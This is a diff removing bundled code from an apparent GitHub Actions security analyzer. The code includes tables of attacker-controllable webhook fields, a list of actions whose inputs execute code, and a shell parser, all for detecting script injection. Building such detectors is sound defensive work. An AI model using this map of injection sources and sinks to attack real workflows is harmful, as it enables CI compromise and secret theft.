-    s: "commits.*.author.email commits.*.author.username commits.*.committer.email commits.*.committer.username head_commit.author.email head_commit.author.username head_commit.committer.email head_commit.committer.username pusher.email pusher.name pusher.username sender.email sender.login"
-  },
-  registry_package: {
-    a: "registry_package.description registry_package.ecosystem registry_package.name registry_package.namespace registry_package.package_type registry_package.package_version.body registry_package.package_version.body.* registry_package.package_version.body_html registry_package.package_version.container_metadata.labels.* registry_package.package_version.container_metadata.manifest.* registry_package.package_version.container_metadata.tag.name registry_package.package_version.description registry_package.package_version.docker_metadata.*.tags.* registry_package.package_version.installation_command registry_package.package_version.manifest registry_package.package_version.metadata.*.* registry_package.package_version.name registry_package.package_version.npm_metadata.author registry_package.package_version.npm_metadata.author.* registry_package.package_version.npm_metadata.bin.* registry_package.package_version.npm_metadata.bugs registry_package.package_version.npm_metadata.bugs.* registry_package.package_version.npm_metadata.commit_oid registry_package.package_version.npm_metadata.contributors.* registry_package.package_version.npm_metadata.cpu.* registry_package.package_version.npm_metadata.dependencies.* registry_package.package_version.npm_metadata.description registry_package.package_version.npm_metadata.dev_dependencies.* registry_package.package_version.npm_metadata.directories registry_package.package_version.npm_metadata.directories.* registry_package.package_version.npm_metadata.dist registry_package.package_version.npm_metadata.dist.* registry_package.package_version.npm_metadata.engines.* registry_package.package_version.npm_metadata.files.* registry_package.package_version.npm_metadata.git_head registry_package.package_version.npm_metadata.homepage registry_package.package_version.npm_metadata.installation_command registry_package.package_version.npm_metadata.keywords.* registry_package.package_version.npm_metadata.main registry_package.package_version.npm_metadata.maintainers.* registry_package.package_version.npm_metadata.man.* registry_package.package_version.npm_metadata.name registry_package.package_version.npm_metadata.node_version registry_package.package_version.npm_metadata.npm_user registry_package.package_version.npm_metadata.npm_version registry_package.package_version.npm_metadata.optional_dependencies.* registry_package.package_version.npm_metadata.os.* registry_package.package_version.npm_metadata.peer_dependencies.* registry_package.package_version.npm_metadata.readme registry_package.package_version.npm_metadata.repository registry_package.package_version.npm_metadata.repository.* registry_package.package_version.npm_metadata.scripts.* registry_package.package_version.npm_metadata.version registry_package.package_version.nuget_metadata.*.id.* registry_package.package_version.nuget_metadata.*.name registry_package.package_version.nuget_metadata.*.value registry_package.package_version.nuget_metadata.*.value.branch registry_package.package_version.nuget_metadata.*.value.commit registry_package.package_version.package_files.*.content_type registry_package.package_version.package_files.*.md5 registry_package.package_version.package_files.*.name registry_package.package_version.package_files.*.sha1 registry_package.package_version.package_files.*.sha256 registry_package.package_version.release.name registry_package.package_version.release.tag_name registry_package.package_version.release.target_commitish registry_package.package_version.rubygems_metadata.*.commit_oid registry_package.package_version.rubygems_metadata.*.dependencies.*.* registry_package.package_version.rubygems_metadata.*.description registry_package.package_version.rubygems_metadata.*.homepage registry_package.package_version.rubygems_metadata.*.metadata.* registry_package.package_version.rubygems_metadata.*.name registry_package.package_version.rubygems_metadata.*.platform registry_package.package_version.rubygems_metadata.*.readme registry_package.package_version.rubygems_metadata.*.repo registry_package.package_version.rubygems_metadata.*.version_info.version registry_package.package_version.summary registry_package.package_version.tag_name registry_package.package_version.target_commitish registry_package.package_version.target_oid registry_package.package_version.version registry_package.registry.name registry_package.registry.vendor sender.name",
-    s: "registry_package.owner.login registry_package.package_version.author.login registry_package.package_version.release.author.login sender.email sender.login"
-  },
-  release: {
-    a: "changes.body.from changes.name.from changes.tag_name.from release.assets.*.content_type release.assets.*.label release.assets.*.name release.assets.*.uploader.name release.author.name release.body release.name release.tag_name release.target_commitish sender.name",
-    s: "release.assets.*.uploader.email release.assets.*.uploader.login release.author.email release.author.login sender.email sender.login"
-  },
-  repository_dispatch: {
-    a: "branch client_payload.* sender.name",
-    s: "sender.email sender.login"
-  },
-  status: {
-    a: "branches.*.name commit.author.name commit.commit.author.date commit.commit.author.name commit.commit.committer.date commit.commit.committer.name commit.commit.message commit.commit.verification.payload commit.commit.verification.signature commit.committer.name context description name sender.name target_url",
-    s: "commit.author.email commit.author.login commit.commit.author.email commit.commit.author.username commit.commit.committer.email commit.commit.committer.username commit.committer.email commit.committer.login sender.email sender.login"
-  },
-  watch: {
-    a: "sender.name",
-    s: "sender.email sender.login"
-  },
-  workflow_dispatch: {
-    a: "ref sender.name workflow",
-    s: "sender.email sender.login"
-  },
-  workflow_run: {
-    a: "sender.name workflow.name workflow_run.actor.name workflow_run.display_title workflow_run.head_branch workflow_run.head_commit.author.name workflow_run.head_commit.committer.name workflow_run.head_commit.message workflow_run.head_repository.description workflow_run.head_repository.owner.name workflow_run.name workflow_run.pull_requests.*.base.ref workflow_run.pull_requests.*.head.ref workflow_run.referenced_workflows.*.ref workflow_run.repository.description workflow_run.repository.owner.name workflow_run.triggering_actor.name",
-    s: "sender.email sender.login workflow_run.actor.email workflow_run.actor.login workflow_run.head_commit.author.email workflow_run.head_commit.author.username workflow_run.head_commit.committer.email workflow_run.head_commit.committer.username workflow_run.head_repository.full_name workflow_run.head_repository.name workflow_run.head_repository.owner.email workflow_run.head_repository.owner.login workflow_run.pull_requests.*.base.repo.name workflow_run.pull_requests.*.head.repo.name workflow_run.repository.full_name workflow_run.repository.name workflow_run.repository.owner.email workflow_run.repository.owner.login workflow_run.triggering_actor.email workflow_run.triggering_actor.login"
-  }
-};
-var WEBHOOK_ALIASES = { "pull_request_target": "pull_request" };
-
-// server/src/knowledge/contexts.ts
-var PR_TRIGGERS2 = /* @__PURE__ */ new Set(["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"]);
-var GITHUB_PROPERTIES = {
-  action: { capability: "fixed", source: "the id of the current step or action" },
-  action_path: { capability: "fixed", source: "the directory of the running action on the runner" },
-  action_ref: { capability: "fixed", source: "the ref of the running action" },
-  action_repository: { capability: "fixed", source: "the owner and name of the running action" },
-  action_status: { capability: "fixed", source: "the composite action's result" },
-  actor: { capability: "structured", source: "the login of the user or app that caused the run (letters, digits, `-` and `[bot]`)" },
-  actor_id: { capability: "fixed", source: "the numeric id of the actor" },
-  api_url: { capability: "fixed", source: "the REST API URL" },
-  base_ref: { capability: "writer", source: "the target branch of the pull request, a branch of this repository" },
-  env: { capability: "fixed", source: "the path of the runner's GITHUB_ENV file" },
-  event_name: { capability: "fixed", source: "the name of the trigger" },
-  event_path: { capability: "fixed", source: "the path of the event payload file on the runner" },
-  graphql_url: { capability: "fixed", source: "the GraphQL API URL" },
-  head_ref: { capability: "arbitrary", source: "the source branch of the pull request, named by its author (a branch name may hold `$(...)`, quotes and backticks)" },
-  job: { capability: "fixed", source: "the id of the current job" },
-  output: { capability: "fixed", source: "the path of the GITHUB_OUTPUT file" },
-  path: { capability: "fixed", source: "the path of the GITHUB_PATH file" },
-  ref: { capability: "writer", source: "the ref that triggered the run (`refs/pull/N/merge` for pull requests; a branch or tag name pushed by a writer otherwise)" },
-  ref_name: { capability: "writer", source: "the short name of the triggering ref (`N/merge` for pull requests; a branch or tag name pushed by a writer otherwise)" },
-  ref_protected: { capability: "fixed", source: "whether the ref is protected" },
-  ref_type: { capability: "fixed", source: "`branch` or `tag`" },
-  repository: { capability: "fixed", source: "this repository's owner/name" },
-  repository_id: { capability: "fixed", source: "this repository's id" },
-  repository_owner: { capability: "fixed", source: "this repository's owner" },
-  repository_owner_id: { capability: "fixed", source: "the owner's id" },
-  repositoryurl: { capability: "fixed", source: "this repository's git URL" },
-  retention_days: { capability: "fixed", source: "the artifact retention setting" },
-  run_id: { capability: "fixed", source: "the run's id" },
-  run_number: { capability: "fixed", source: "the run's number" },
-  run_attempt: { capability: "fixed", source: "the run's attempt number" },
-  secret_source: { capability: "fixed", source: "where the secrets come from" },
-  server_url: { capability: "fixed", source: "the GitHub server URL" },
-  sha: { capability: "fixed", source: "the commit SHA that triggered the run" },
-  state: { capability: "fixed", source: "the path of the GITHUB_STATE file" },
-  step_summary: { capability: "fixed", source: "the path of the step summary file" },
-  token: { capability: "fixed", source: "the job's GITHUB_TOKEN (a secret: keep it out of scripts anyway)" },
-  triggering_actor: { capability: "structured", source: "the login of the user who started or re-ran the run" },
-  workflow: { capability: "fixed", source: "the workflow's name, written in this file" },
-  workflow_ref: { capability: "fixed", source: "the workflow file's ref" },
-  workflow_sha: { capability: "fixed", source: "the workflow file's commit SHA" },
-  workspace: { capability: "fixed", source: "the checkout directory on the runner" }
-};
-var RUNNER_ENV = {
-  "github.action": "GITHUB_ACTION",
-  "github.action_path": "GITHUB_ACTION_PATH",
-  "github.actor": "GITHUB_ACTOR",
-  "github.actor_id": "GITHUB_ACTOR_ID",
-  "github.api_url": "GITHUB_API_URL",
-  "github.base_ref": "GITHUB_BASE_REF",
-  "github.event_name": "GITHUB_EVENT_NAME",
-  "github.event_path": "GITHUB_EVENT_PATH",
-  "github.graphql_url": "GITHUB_GRAPHQL_URL",
-  "github.head_ref": "GITHUB_HEAD_REF",
-  "github.job": "GITHUB_JOB",
-  "github.ref": "GITHUB_REF",
-  "github.ref_name": "GITHUB_REF_NAME",
-  "github.ref_type": "GITHUB_REF_TYPE",
-  "github.repository": "GITHUB_REPOSITORY",
-  "github.repository_owner": "GITHUB_REPOSITORY_OWNER",
-  "github.run_attempt": "GITHUB_RUN_ATTEMPT",
-  "github.run_id": "GITHUB_RUN_ID",
-  "github.run_number": "GITHUB_RUN_NUMBER",
-  "github.server_url": "GITHUB_SERVER_URL",
-  "github.sha": "GITHUB_SHA",
-  "github.triggering_actor": "GITHUB_TRIGGERING_ACTOR",
-  "github.workflow": "GITHUB_WORKFLOW",
-  "github.workflow_ref": "GITHUB_WORKFLOW_REF",
-  "github.workspace": "GITHUB_WORKSPACE"
-};
-var EVENT_OVERRIDES = [
-  { pattern: /(^|\.)(base|head)\.sha$|^(before|after)$|(^|\.)head_sha$/, capability: "fixed", source: "a commit SHA" },
-  { pattern: /^pull_request\.base\.(ref|label)$|^workflow_run\.pull_requests\.\*\.base\.ref$/, capability: "writer", source: "the target branch, a branch of this repository" },
-  { pattern: /(^|\.)number$|(^|\.)id$/, capability: "fixed", source: "a number" }
-];
-var OBJECT_NAMES = [
-  [/^pull_request\.title$/, "the pull request title"],
-  [/^pull_request\.body$/, "the pull request description"],
-  [/^pull_request\.head\.ref$/, "the pull request's source branch name"],
-  [/^pull_request\.head\.label$/, "the pull request's `owner:branch` label"],
-  [/^issue\.title$/, "the issue title"],
-  [/^issue\.body$/, "the issue body"],
-  [/^comment\.body$/, "the comment text"],
-  [/^review\.body$/, "the review text"],
-  [/^discussion\.title$/, "the discussion title"],
-  [/^discussion\.body$/, "the discussion body"],
-  [/commits\.\*\.message$|head_commit\.message$/, "a commit message"],
-  [/(author|committer)\.(name|email)$/, "a commit author field (git does not validate it)"],
-  [/^workflow_run\.head_branch$/, "the branch of the triggering run (a fork's branch name)"],
-  [/^workflow_run\.display_title$/, "the title of the triggering run (a pull request title or commit message)"],
-  [/labels?\.(\*\.)?name$/, "a label name"],
-  [/^client_payload\./, "the `client_payload` chosen by whoever calls the dispatch API"]
-];
-function describeEventField(field, capability) {
-  for (const [pattern, name] of OBJECT_NAMES) if (pattern.test(field)) return name;
-  if (capability === "structured") return "a login, repository name or e-mail address from the event";
-  if (capability === "arbitrary") return "free text from the event payload";
-  return "a value of the event payload";
-}
-var fieldCache = /* @__PURE__ */ new Map();
-function fieldsOf(event) {
-  if (fieldCache.has(event)) return fieldCache.get(event);
-  const entry = Object.prototype.hasOwnProperty.call(WEBHOOK_FIELDS, event) ? WEBHOOK_FIELDS[event] : null;
-  let sets = null;
-  if (entry) {
-    const split = (s) => new Set(s ? s.split(" ") : []);
-    sets = { arbitrary: split(entry.a), structured: split(entry.s), prefixes: /* @__PURE__ */ new Set() };
-    for (const path of [...sets.arbitrary, ...sets.structured]) {
-      const parts = path.split(".");
-      for (let i = 1; i < parts.length; i++) sets.prefixes.add(parts.slice(0, i).join("."));
-    }
-  }
-  fieldCache.set(event, sets);
-  return sets;
-}
-function matches(set2, field) {
-  if (set2.has(field)) return true;
-  const parts = field.split(".");
-  for (let i = parts.length - 1; i >= 1; i--) if (set2.has(`${parts.slice(0, i).join(".")}.*`)) return true;
-  return false;
-}
-function eventFieldUnder(trigger, field) {
-  const event = Object.prototype.hasOwnProperty.call(WEBHOOK_ALIASES, trigger) ? WEBHOOK_ALIASES[trigger] : trigger;
-  const sets = fieldsOf(event);
-  if (!sets) return trigger === "workflow_call" ? "unknown" : null;
-  if (field === "") return "arbitrary";
-  if (matches(sets.arbitrary, field)) return "arbitrary";
-  if (matches(sets.structured, field)) return "structured";
-  if (sets.prefixes.has(field) || field.endsWith(".*")) return "arbitrary";
-  return "fixed";
-}
-var RANK = { fixed: 0, unknown: 1, structured: 2, writer: 3, arbitrary: 4 };
-function normalizeContextPath(path) {
-  return path.toLowerCase().split(".").map((segment) => /^\d+$/.test(segment) ? "*" : segment).join(".");
-}
-function classifyGithubContext(rawPath, triggers) {
-  const path = normalizeContextPath(rawPath);
-  const parts = path.split(".");
-  const property = parts[1] ?? "";
-  if (parts.length === 1) return { path, capability: "arbitrary", source: "the whole `github` context, including the event payload", outsiderTriggers: outsiders(triggers, () => true) };
-  if (property !== "event") {
-    const known = GITHUB_PROPERTIES[property];
-    if (!known) return { path, capability: "unknown", source: `\`github.${property}\` is not a documented property`, outsiderTriggers: [] };
-    if (property === "head_ref") {
-      const applies = triggers === null || triggers.some((t) => PR_TRIGGERS2.has(t) || t === "workflow_call");
-      return applies ? { path, capability: "arbitrary", source: known.source, outsiderTriggers: outsiders(triggers, (t) => PR_TRIGGERS2.has(t)) } : { path, capability: "fixed", source: "empty: the workflow has no pull request trigger", outsiderTriggers: [] };
-    }
-    return { path, capability: known.capability, source: known.source, outsiderTriggers: known.capability === "structured" ? outsiders(triggers, () => true) : [] };
-  }
-  const field = parts.slice(2).join(".");
-  for (const override of EVENT_OVERRIDES) {
-    if (override.pattern.test(field)) return { path, capability: override.capability, source: override.source, outsiderTriggers: [] };
-  }
-  const candidates = triggers ?? Object.keys(WEBHOOK_FIELDS).concat("pull_request_target");
-  let best = null;
-  const outsider = [];
-  for (const trigger of candidates) {
-    let capability = eventFieldUnder(trigger, field);
-    if (capability === null) continue;
-    const info = triggerInfo(trigger);
-    if (capability === "arbitrary" && info && !info.outsiderCanFire) {
-      const mergedText = trigger === "push" && /commits\.\*\.|head_commit\./.test(field);
-      if (!mergedText) capability = "writer";
-    }
-    if ((capability === "arbitrary" || capability === "structured") && (info?.outsiderCanFire || trigger === "push")) outsider.push(trigger);
-    if (best === null || RANK[capability] > RANK[best]) best = capability;
-  }
-  if (best === null) {
-    return { path, capability: "fixed", source: `absent from the payload of ${triggers && triggers.length ? triggers.map((t) => `\`${t}\``).join(", ") : "this workflow's triggers"}`, outsiderTriggers: [] };
-  }
-  return { path, capability: best, source: describeEventField(field, best), outsiderTriggers: outsider };
-}
-function outsiders(triggers, applies) {
-  if (triggers === null) return [];
-  return triggers.filter((t) => applies(t) && triggerInfo(t)?.outsiderCanFire);
-}
-var SAFE_INPUT_TYPES = /* @__PURE__ */ new Set(["boolean", "number", "choice", "environment"]);
-function isInertContext(path) {
-  const p = normalizeContextPath(path);
-  return /^(runner|job|strategy)(\.|$)/.test(p) || /^steps\.[^.]+\.(outcome|conclusion)$/.test(p) || /^needs\.[^.]+\.result$/.test(p) || /^jobs\.[^.]+\.result$/.test(p);
-}
-
-// server/src/knowledge/action-lookup.ts
-function lowerTarget(owner, repo, path) {
-  return `${owner}/${repo}${path ? `/${path}` : ""}`.toLowerCase();
-}
-function findAction(table, owner, repo, path) {
-  const full = lowerTarget(owner, repo, path);
-  const base2 = lowerTarget(owner, repo, null);
-  return table.find((entry) => entry.action === full) ?? table.find((entry) => entry.action === base2);
-}
-
-// server/src/knowledge/code-sinks.ts
-var CODE_SINKS = [
-  { action: "actions/github-script", inputs: ["script"], language: "javascript" },
-  { action: "cardinalby/js-eval-action", inputs: ["expression"], language: "javascript" },
-  { action: "azure/cli", inputs: ["inlinescript"], language: "shell" },
-  { action: "azure/powershell", inputs: ["inlinescript"], language: "pwsh" },
-  { action: "amadevus/pwsh-script", inputs: ["script"], language: "pwsh" },
-  { action: "jannekem/run-python-script-action", inputs: ["script"], language: "python" },
-  { action: "mikefarah/yq", inputs: ["cmd"], language: "yq" },
-  { action: "appleboy/ssh-action", inputs: ["script"], language: "shell" },
-  { action: "garygrossgarten/github-action-ssh", inputs: ["command"], language: "shell" },
-  { action: "addnab/docker-run-action", inputs: ["run"], language: "shell" },
-  { action: "cloudflare/wrangler-action", inputs: ["command", "precommands", "postcommands"], language: "shell" },
-  { action: "nick-fields/retry", inputs: ["command", "on_retry_command"], language: "shell" },
-  { action: "aws-actions/aws-cli", inputs: ["command"], language: "shell" },
-  { action: "docker://", inputs: ["entrypoint", "args"], language: "other" }
-];
-function codeSinkFor(owner, repo, path) {
-  return findAction(CODE_SINKS, owner, repo, path);
-}
-
-// server/src/knowledge/shell/command.ts
-var KEYWORDS = /* @__PURE__ */ new Set(["if", "then", "else", "elif", "do", "while", "until", "!", "{", "time", "exec", "command", "builtin", "nohup", "sudo", "doas", "eval"]);
-var SKIP_ARG_WRAPPERS = /* @__PURE__ */ new Set(["env"]);
-function isAssignment(raw) {
-  const first = raw.charCodeAt(0);
-  if (!(first >= 65 && first <= 90 || first >= 97 && first <= 122 || first === 95)) return false;
-  let i = 1;
-  for (; i < raw.length; i++) {
-    const c = raw.charCodeAt(i);
-    if (!(c >= 65 && c <= 90 || c >= 97 && c <= 122 || c >= 48 && c <= 57 || c === 95)) break;
-  }
-  if (raw.charCodeAt(i) === 43) i++;
-  return raw.charCodeAt(i) === 61;
-}
-function buildCommand(words2, redirects, heredocs, start, end, connector, inSubstitution) {
-  let i = 0;
-  const assignments = [];
-  while (i < words2.length) {
-    const word = words2[i];
-    if (isAssignment(word.raw)) {
-      assignments.push(word);
-      i++;
-    } else if (KEYWORDS.has(word.text)) {
-      i++;
-      if (word.text === "sudo" || word.text === "doas") while (i < words2.length && words2[i].text.startsWith("-")) i += words2[i].text === "-u" ? 2 : 1;
-    } else if (SKIP_ARG_WRAPPERS.has(word.text)) {
-      i++;
-      while (i < words2.length && (words2[i].text.startsWith("-") || /^[A-Za-z_][A-Za-z0-9_]*=/.test(words2[i].text))) i++;
-    } else {
-      break;
-    }
-  }
-  const argv = words2.slice(i);
-  const first = argv[0]?.text ?? "";
-  const name = first.replace(/^.*[\\/]/, "").toLowerCase();
-  return {
-    words: words2,
-    argv,
-    name,
-    assignments,
-    redirects,
-    heredocs,
-    span: { start, end },
-    connector,
-    pipeline: 0,
-    pipesTo: false,
-    inSubstitution,
-    line: 0
-    // set by parseShell
-  };
-}
-
-// server/src/knowledge/shell/reader.ts
-var WORD_SPECIAL = new Uint8Array(128);
-for (const c of " 	\n\r;|()&<>$`'\"\\") WORD_SPECIAL[c.charCodeAt(0)] = 1;
-var OPENS_PAREN_WORD = new Uint8Array(128);
-for (const c of "$<>=@?*+!") OPENS_PAREN_WORD[c.charCodeAt(0)] = 1;
-var IN_DOUBLE_QUOTES_SPECIAL = new Uint8Array(128);
-for (const c of '"\\$') IN_DOUBLE_QUOTES_SPECIAL[c.charCodeAt(0)] = 1;
-function parseShell(text) {
-  return shellMemo.get(text);
-}
-var shellMemo = new TextMemo(splitShell);
-function splitShell(text) {
-  const commands = [];
-  new Reader(text, 0, text.length, commands, false).run();
-  commands.sort((a, b) => a.span.start - b.span.start);
-  let pipeline = -1;
-  let line = 0;
-  let counted = 0;
-  for (let i = 0; i < commands.length; i++) {
-    const command = commands[i];
-    if (command.connector !== "|" || i === 0) pipeline++;
-    command.pipeline = pipeline;
-    for (let nl = text.indexOf("\n", counted); nl !== -1 && nl < command.span.start; nl = text.indexOf("\n", nl + 1)) {
-      line++;
-      counted = nl + 1;
-    }
-    command.line = line;
-  }
-  return { text, commands };
-}
-var Reader = class _Reader {
-  constructor(text, from, end, out, inSubstitution, depth = 0) {
-    this.text = text;
-    this.end = end;
-    this.out = out;
-    this.inSubstitution = inSubstitution;
-    this.depth = depth;
-    this.pos = from;
-  }
-  text;
-  end;
-  out;
-  inSubstitution;
-  depth;
-  pos;
-  words = [];
-  redirects = [];
-  heredocs = [];
-  pendingHeredocs = [];
-  connector = "start";
-  start = -1;
-  last = null;
-  run() {
-    const { text, end } = this;
-    while (this.pos < end) {
-      const c = text.charCodeAt(this.pos);
-      const next = text.charCodeAt(this.pos + 1);
-      if (c === 32 || c === 9 || c === 13) {
-        this.pos++;
-      } else if (c === 92 && next === 10) {
-        this.pos += 2;
-      } else if (c === 92 && next === 13 && text.charCodeAt(this.pos + 2) === 10) {
-        this.pos += 3;
-      } else if (c === 10) {
-        this.finish("newline");
-        this.pos++;
-        this.readHeredocBodies();
-      } else if (c === 35) {
-        const lineEnd = text.indexOf("\n", this.pos);
-        this.pos = lineEnd === -1 || lineEnd > end ? end : lineEnd;
-      } else if (c === 59) {
-        this.finish(";");
-        this.pos += next === 59 ? 2 : 1;
-      } else if (c === 38 && next === 38) {
-        this.finish("&&");
-        this.pos += 2;
-      } else if (c === 124 && next === 124) {
-        this.finish("||");
-        this.pos += 2;
-      } else if (c === 124) {
-        this.finish("|", true);
-        this.pos += next === 38 ? 2 : 1;
-      } else if (c === 38 && next !== 62) {
-        this.finish("&");
-        this.pos++;
-      } else if ((c === 40 || c === 41) && !(c === 40 && next === 40)) {
-        this.finish(";");
-        this.pos++;
-      } else if (this.atRedirection()) {
-        this.readRedirection();
-      } else {
-        const word = this.readWord();
-        if (word) {
-          if (this.start < 0) this.start = word.span.start;
-          this.words.push(word);
-        } else {
-          this.pos++;
-        }
-      }
-    }
-    this.finish("newline");
-  }
-  atRedirection() {
-    const first = this.text.charCodeAt(this.pos);
-    if (!(first >= 48 && first <= 57 || first === 60 || first === 62 || first === 38)) return false;
-    const rest = this.text.slice(this.pos, this.pos + 4);
-    return /^(\d*(>>|>&|>\||>|<<<|<<-|<<|<&|<>|<)|&>>|&>)/.test(rest) && !/^<\(|^>\(/.test(rest);
-  }
-  readRedirection() {
-    const match = /^(\d*(>>|>&|>\||>|<<<|<<-|<<|<&|<>|<)|&>>|&>)/.exec(this.text.slice(this.pos, this.pos + 4));
-    const op = match[0];
-    const opStart = this.pos;
-    if (this.start < 0) this.start = opStart;
-    this.pos += op.length;
-    while (this.pos < this.end && (this.text[this.pos] === " " || this.text[this.pos] === "	")) this.pos++;
-    const target = this.readWord();
-    const span = { start: opStart, end: target ? target.span.end : this.pos };
-    if (/<<-?$/.test(op) && !op.endsWith("<<<") && target) {
-      const quoted = target.quoted || target.raw.includes("\\");
-      this.pendingHeredocs.push({ delimiter: target.text, quoted, strip: op.endsWith("-"), command: null });
-    }
-    this.redirects.push({ op, target, span });
-  }
-  /** Reads one word at `pos` (quotes, escapes, expansions included); null when nothing word-like is there. */
-  readWord() {
-    const { text, end } = this;
-    const start = this.pos;
-    let value = "";
-    let quoted = false;
-    while (this.pos < end) {
-      const c = text.charCodeAt(this.pos);
-      const next = text.charCodeAt(this.pos + 1);
-      if (c === 32 || c === 9 || c === 10 || c === 13 || c === 59 || c === 124 || c === 41 || c === 40) {
-        if (c === 40 && this.pos > start && OPENS_PAREN_WORD[text.charCodeAt(this.pos - 1)] === 1) {
-          const close = this.matchParen(this.pos);
-          this.substitution(this.pos + 1, close);
-          value += text.slice(this.pos, Math.min(close + 1, end));
-          this.pos = Math.min(close + 1, end);
-          continue;
-        }
-        if (c === 40 && this.pos === start && next === 40) {
-          const close = this.matchParen(this.pos);
-          value += text.slice(this.pos, Math.min(close + 1, end));
-          this.pos = Math.min(close + 1, end);
-          continue;
-        }
-        break;
-      }
-      if (c === 38) break;
-      if ((c === 60 || c === 62) && next !== 40) break;
-      if (c === 36 && next === 123 && text.charCodeAt(this.pos + 2) === 123) {
-        const close = text.indexOf("}}", this.pos + 3);
-        const stop2 = close < 0 || close >= end ? end : close + 2;
-        value += text.slice(this.pos, stop2);
-        this.pos = stop2;
-      } else if ((c === 36 || c === 60 || c === 62) && next === 40) {
-        const close = this.matchParen(this.pos + 1);
-        this.substitution(this.pos + 2, close);
-        value += text.slice(this.pos, Math.min(close + 1, end));
-        this.pos = Math.min(close + 1, end);
-      } else if (c === 36 && next === 123) {
-        const close = text.indexOf("}", this.pos + 2);
-        const stop2 = close < 0 || close >= end ? end : close + 1;
-        value += text.slice(this.pos, stop2);
-        this.pos = stop2;
-      } else if (c === 96) {
-        let close = this.pos + 1;
-        while (close < end && text.charCodeAt(close) !== 96) close += text.charCodeAt(close) === 92 ? 2 : 1;
-        this.substitution(this.pos + 1, Math.min(close, end));
-        value += text.slice(this.pos, Math.min(close + 1, end));
-        this.pos = Math.min(close + 1, end);
-      } else if (c === 39) {
-        quoted = true;
-        const close = text.indexOf("'", this.pos + 1);
-        const stop2 = close < 0 || close >= end ? end : close;
-        value += text.slice(this.pos + 1, stop2);
-        this.pos = Math.min(stop2 + 1, end);
-      } else if (c === 34) {
-        quoted = true;
-        this.pos++;
-        while (this.pos < end) {
-          const d = text.charCodeAt(this.pos);
-          if (d === 34) break;
-          if (d === 92 && this.pos + 1 < end) {
-            const escaped = text.charCodeAt(this.pos + 1);
-            if (escaped === 10) {
-              this.pos += 2;
-              continue;
-            }
-            value += escaped === 36 || escaped === 96 || escaped === 34 || escaped === 92 ? text[this.pos + 1] : text.slice(this.pos, this.pos + 2);
-            this.pos += 2;
-          } else if (d === 36 && text.charCodeAt(this.pos + 1) === 40) {
-            const close = this.matchParen(this.pos + 1);
-            this.substitution(this.pos + 2, close);
-            value += text.slice(this.pos, Math.min(close + 1, end));
-            this.pos = Math.min(close + 1, end);
-          } else if (d === 36 && text.charCodeAt(this.pos + 1) === 123 && text.charCodeAt(this.pos + 2) === 123) {
-            const close = text.indexOf("}}", this.pos + 3);
-            const stop2 = close < 0 || close >= end ? end : close + 2;
-            value += text.slice(this.pos, stop2);
-            this.pos = stop2;
-          } else {
-            const from = this.pos;
-            this.pos++;
-            while (this.pos < end && IN_DOUBLE_QUOTES_SPECIAL[text.charCodeAt(this.pos)] !== 1) this.pos++;
-            value += text.slice(from, this.pos);
-          }
-        }
-        this.pos = Math.min(this.pos + 1, end);
-      } else if (c === 92) {
-        if (next === 10) {
-          this.pos += 2;
-          break;
-        }
-        value += text[this.pos + 1] ?? "";
-        this.pos += 2;
-      } else {
-        const from = this.pos;
-        this.pos++;
-        while (this.pos < end && WORD_SPECIAL[text.charCodeAt(this.pos)] !== 1) this.pos++;
-        value += text.slice(from, this.pos);
-      }
-    }
-    if (this.pos === start) return null;
-    const stop = Math.min(this.pos, end);
-    return { text: value, raw: text.slice(start, stop), span: { start, end: stop }, quoted };
-  }
-  /** Offset of the `)` matching the `(` at `open` (quotes skipped); `end` when unbalanced. */
-  matchParen(open) {
-    const { text, end } = this;
-    let depth = 0;
-    for (let i = open; i < end; i++) {
-      const c = text[i];
-      if (c === "\\") i++;
-      else if (c === "'") {
-        const close = text.indexOf("'", i + 1);
-        if (close < 0) return end;
-        i = close;
-      } else if (c === "(") depth++;
-      else if (c === ")" && --depth === 0) return i;
-    }
-    return end;
-  }
-  substitution(from, to) {
-    if (this.depth > 16 || to <= from) return;
-    new _Reader(this.text, from, Math.min(to, this.end), this.out, true, this.depth + 1).run();
-  }
-  finish(next, pipesTo = false) {
-    if (this.words.length > 0 || this.redirects.length > 0) {
-      const command = buildCommand(this.words, this.redirects, this.heredocs, this.start, this.lastEnd(), this.connector, this.inSubstitution);
-      command.pipesTo = pipesTo;
-      for (const pending of this.pendingHeredocs) if (!pending.command) pending.command = command;
-      this.out.push(command);
-      this.last = command;
-      this.connector = next;
-    } else if (next === "|" || next === "&&" || next === "||") {
-      this.connector = next;
-    } else if (this.connector === "start" || next !== "newline") {
-      this.connector = this.last ? next : "start";
-    } else {
-      this.connector = "newline";
-    }
-    if (pipesTo) this.connector = "|";
-    this.words = [];
-    this.redirects = [];
-    this.heredocs = [];
-    this.start = -1;
-  }
-  lastEnd() {
-    let end = this.start;
-    for (const word of this.words) end = Math.max(end, word.span.end);
-    for (const redirect of this.redirects) end = Math.max(end, redirect.span.end);
-    return end;
-  }
-  /** After a newline: skips (and records) the bodies of the heredocs opened on the line just ended. */
-  readHeredocBodies() {
-    const pending = this.pendingHeredocs;
-    this.pendingHeredocs = [];
-    for (const heredoc of pending) {
-      const bodyStart = this.pos;
-      let bodyEnd = this.end;
-      let after = this.end;
-      while (this.pos < this.end) {
-        let lineEnd = this.text.indexOf("\n", this.pos);
-        if (lineEnd < 0 || lineEnd > this.end) lineEnd = this.end;
-        let line = this.text.slice(this.pos, lineEnd).replace(/\r$/, "");
-        if (heredoc.strip) line = line.replace(/^\t+/, "");
-        if (line.trim() === heredoc.delimiter) {
-          bodyEnd = this.pos;
-          after = Math.min(lineEnd + 1, this.end);
-          break;
-        }
-        this.pos = lineEnd + 1;
-      }
-      this.pos = Math.min(after, this.end);
-      const record = { delimiter: heredoc.delimiter, quoted: heredoc.quoted, body: this.text.slice(bodyStart, bodyEnd), bodySpan: { start: bodyStart, end: bodyEnd } };
-      heredoc.command?.heredocs.push(record);
-    }
-  }
-};
-
-// server/src/knowledge/shell/arguments.ts
-function args(command) {
-  return command.argv.slice(1);
-}
-function flagValue(command, ...flags) {
-  const list = args(command);
-  for (let i = 0; i < list.length; i++) {
-    const text = list[i].text;
-    if (flags.includes(text)) return list[i + 1] ?? null;
-    for (const flag of flags) {
-      if (flag.startsWith("--") && text.startsWith(`${flag}=`)) {
-        const word = list[i];
-        const cut = flag.length + 1;
-        return { text: text.slice(cut), raw: word.raw, span: { start: word.span.start + Math.min(cut, word.raw.length), end: word.span.end }, quoted: word.quoted };
-      }
-    }
-  }
-  return null;
-}
-function pipedInto(script, command) {
-  if (!command.pipesTo) return null;
-  const index = script.commands.indexOf(command);
